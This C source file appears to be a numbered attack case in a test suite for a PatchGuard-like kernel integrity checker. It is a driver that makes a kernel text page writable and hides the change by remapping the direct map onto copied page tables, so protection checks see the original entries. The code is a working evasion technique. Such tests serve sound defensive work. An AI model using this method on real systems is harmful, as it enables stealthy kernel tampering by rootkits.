/* attack_a112_shadow_view (A112): a page-table change hidden behind a direct-map view of the tables. PatchGuard reads every page-table
 * entry it protects through the direct map, and so does everything else
 * that reads page tables; only the processor's walk reads their frames.
 * This driver sets W in the PTE of the kernel text page holding the
 * exported module_find (A38: a text page writable in its PTE), and makes
 * the direct map show copies of the two page-table pages that would tell:
 * the page table holding that PTE, and the page directory holding the
 * direct map's own 2 MiB entries, both copied before any change. The 2 MiB
 * direct-map entry of each one's region is pointed at a page table of the
 * driver's own that maps the same 2 MiB 4 KiB at a time with those frames
 * replaced by the copies; then every translation is flushed. The walk uses
 * the real tables (the text page writable, the two regions mapped through
 * the driver's tables); every read through the direct map, PatchGuard's
 * page-table checks included, sees the copies, which read as armed. No
 * TLB trick: the change is persistent. Expected (before the fix): no bug
 * check. */
#include "attack_pg.h"

static uint8_t *page_of_pool(void)
{
	uint8_t *buf = pool_alloc(2 * A_PAGE, 0x74696C53);
	if (!buf)
		return NULL;
	uint8_t *p = (uint8_t *)(((uint64_t)buf + A_PAGE - 1) & ~(A_PAGE - 1));
	return (uint64_t)p >= KPP_DIRECT_MAP_BASE ? p : NULL;
}

static uint64_t pa_of(const void *p) { return (uint64_t)p - KPP_DIRECT_MAP_BASE; }

/* A page table for the 2 MiB region of the direct map whose entry is pde:
 * the same frames, 4 KiB at a time, with the frames a and b (when inside)
 * replaced by ca and cb. */
static void fill(uint64_t *t, uint64_t pde, uint64_t a, uint64_t ca, uint64_t b, uint64_t cb)
{
	uint64_t region = pde & A_PTE_ADDR & ~0x1FFFFFull;
	for (uint64_t i = 0; i < 512; i++) {
		uint64_t pa = region + i * A_PAGE;
		pa = pa == a ? ca : pa == b ? cb : pa;
		t[i] = pa | A_PTE_P | A_PTE_W | (1ull << 5) | (1ull << 6) | (1ull << 8) | A_PTE_NX;
	}
}

status_t driver_entry(struct driver_object *drv)
{
	uint64_t va = (uint64_t)&module_find & ~(A_PAGE - 1);
	uint64_t *pte = a_pte_of(va, 0);
	uint8_t *pt_copy = page_of_pool(), *pd_copy = page_of_pool(), *t1 = page_of_pool(), *t2 = page_of_pool();
	if (!pte || !pt_copy || !pd_copy || !t1 || !t2) {
		printk("attack_a112: no PTE for kernel text, or no memory\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	uint64_t *pt = (uint64_t *)((uint64_t)pte & ~(A_PAGE - 1));
	uint64_t pt_pa = pa_of(pt);
	uint64_t *pde1 = a_pte_of(KPP_DIRECT_MAP_BASE + pt_pa, 1);
	uint64_t *pd = pde1 ? (uint64_t *)((uint64_t)pde1 & ~(A_PAGE - 1)) : NULL;
	uint64_t *pde2 = pd ? a_pte_of((uint64_t)pd, 1) : NULL;
	if (!pde1 || !pde2 || !(*pde1 & (1ull << 7)) || !(*pde2 & (1ull << 7)) ||
	    ((uint64_t)pde2 & ~(A_PAGE - 1)) != (uint64_t)pd) {
		printk("attack_a112: the direct map's entries are not where expected\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	uint64_t pd_pa = pa_of(pd);
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	memcpy(pt_copy, pt, A_PAGE);
	memcpy(pd_copy, pd, A_PAGE);
	fill((uint64_t *)t1, *pde1, pt_pa, pa_of(pt_copy), pd_pa, pa_of(pd_copy));
	bool two = pde1 != pde2;
	if (two)
		fill((uint64_t *)t2, *pde2, pt_pa, pa_of(pt_copy), pd_pa, pa_of(pd_copy));
	/* The real tables: the text page writable, the regions through the
	 * driver's tables (the page directory's own region last: its view is
	 * the copy after that). */
	*pte |= A_PTE_W;
	uint64_t e1 = pa_of(t1) | A_PTE_P | A_PTE_W | (1ull << 5) | A_PTE_NX;
	uint64_t e2 = pa_of(t2) | A_PTE_P | A_PTE_W | (1ull << 5) | A_PTE_NX;
	*pde1 = e1;
	if (two)
		*pde2 = e2;
	uint64_t cr4;
	__asm__ volatile("mov %%cr4, %0" : "=r"(cr4));
	__asm__ volatile("mov %0, %%cr4" ::"r"(cr4 & ~(1ull << 7)) : "memory");
	__asm__ volatile("mov %0, %%cr4" ::"r"(cr4) : "memory");
	printk("attack_a112: a kernel text page writable in its PTE; the direct map shows copies of its page table and directory\n");
	a_patched("attack_a112");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
